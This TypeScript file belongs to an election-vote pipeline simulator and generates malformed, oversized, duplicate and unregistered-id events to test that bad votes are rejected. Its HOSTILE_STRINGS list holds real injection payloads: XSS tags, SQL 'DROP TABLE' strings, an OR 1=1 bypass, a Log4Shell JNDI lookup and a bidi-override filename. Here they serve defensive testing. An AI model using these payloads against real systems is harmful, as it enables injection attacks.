import { deterministicUuid } from '../../shared/election/ids.ts';
import type { Candidate, RejectReason, Vote } from '../../shared/election/model.ts';
import { pick } from './seeded-random.ts';

// Bad events the simulator injects next to the real votes, to prove the pipeline rejects each kind
// with the right reason. Every builder is pure given its random source.

export const CHAOS_KINDS = [
  'malformed', 'oversized', 'unknown_voter', 'unknown_candidate', 'duplicate_vote', 'duplicate_delivery',
] as const satisfies readonly RejectReason[];
export type ChaosKind = (typeof CHAOS_KINDS)[number];

/** Strings that break naive HTML, SQL, logs or bidi rendering; used as ids nobody registered. */
export const HOSTILE_STRINGS: readonly string[] = [
  '<script>alert(1)</script>',
  "'; DROP TABLE votes;--",
  "Robert'); DROP TABLE voters;--",
  '" OR "1"="1',
  '🗳️👻💥',
  '\u202Egnp.exe\u202C',
  'zero\u200Bwidth',
  '${jndi:ldap://example.invalid/a}',
  '<img src=x onerror=alert(1)>',
  'line\nbreak\ttab',
];

/** A vote already produced: its key, its exact bytes and its fields. */
export interface ProducedVote {
  key: string;
  raw: string;
  vote: Vote;
}

export interface ChaosContext {
  seed: number;
  random: () => number;
  /** Votes produced earlier in this run (at least one). */
  recent: readonly ProducedVote[];
  candidates: readonly Candidate[];
  /** A counter making each injected id unique. */
  serial: number;
  now: number;
}

export interface ChaosEvent {
  kind: ChaosKind;
  /** Which flavour of the kind (e.g. `not_json`, `hostile_id`). */
  variant: string;
  key: string;
  value: string;
}

export function pickChaosKind(random: () => number): ChaosKind {
  return CHAOS_KINDS[Math.floor(random() * CHAOS_KINDS.length)]!;
}

export function buildChaosEvent(kind: ChaosKind, ctx: ChaosContext): ChaosEvent {
  const earlier = pick(ctx.random, ctx.recent);
  const newVoteId = deterministicUuid('chaos-vote', ctx.seed, ctx.serial);
  const fresh: Vote = { ...earlier.vote, vote_id: newVoteId, cast_at: ctx.now };
  switch (kind) {
    case 'malformed':
      return malformed(ctx.random, earlier, fresh);
    case 'oversized':
      return { kind, variant: 'padded_vote', key: earlier.key, value: JSON.stringify({ ...fresh, padding: 'x'.repeat(8400) }) };
    case 'unknown_voter': {
      const hostile = ctx.random() < 0.5;
      const voterId = hostile ? pick(ctx.random, HOSTILE_STRINGS) : `ghost-${deterministicUuid('ghost-voter', ctx.seed, ctx.serial)}`;
      return { kind, variant: hostile ? 'hostile_id' : 'unregistered_id', key: voterId, value: JSON.stringify({ ...fresh, voter_id: voterId }) };
    }
    case 'unknown_candidate': {
      const hostile = ctx.random() < 0.5;
      const candidateId = hostile ? pick(ctx.random, HOSTILE_STRINGS) : `ghost-${deterministicUuid('ghost-candidate', ctx.seed, ctx.serial)}`;
      return { kind, variant: hostile ? 'hostile_id' : 'unregistered_id', key: earlier.key, value: JSON.stringify({ ...fresh, candidate_id: candidateId }) };
    }
    case 'duplicate_vote': {
      const other = pick(ctx.random, ctx.candidates);
      return { kind, variant: other.candidate_id === earlier.vote.candidate_id ? 'same_candidate' : 'other_candidate', key: earlier.key, value: JSON.stringify({ ...fresh, candidate_id: other.candidate_id }) };
    }
    case 'duplicate_delivery':
      return { kind, variant: 'same_bytes', key: earlier.key, value: earlier.raw };
  }
}

function malformed(random: () => number, earlier: ProducedVote, fresh: Vote): ChaosEvent {
  const variants: [string, () => string][] = [
    ['not_json', () => earlier.raw.slice(0, Math.floor(earlier.raw.length / 2))],
    ['not_an_object', () => JSON.stringify([fresh.vote_id, fresh.voter_id, fresh.candidate_id])],
    ['missing_field', () => JSON.stringify({ ...fresh, candidate_id: undefined })],
    ['null_field', () => JSON.stringify({ ...fresh, voter_id: null })],
    ['wrong_type', () => JSON.stringify({ ...fresh, cast_at: 'soon' })],
    ['plain_text', () => 'vote for me!'],
  ];
  const [variant, build] = pick(random, variants);
  return { kind: 'malformed', variant, key: earlier.key, value: build() };
}
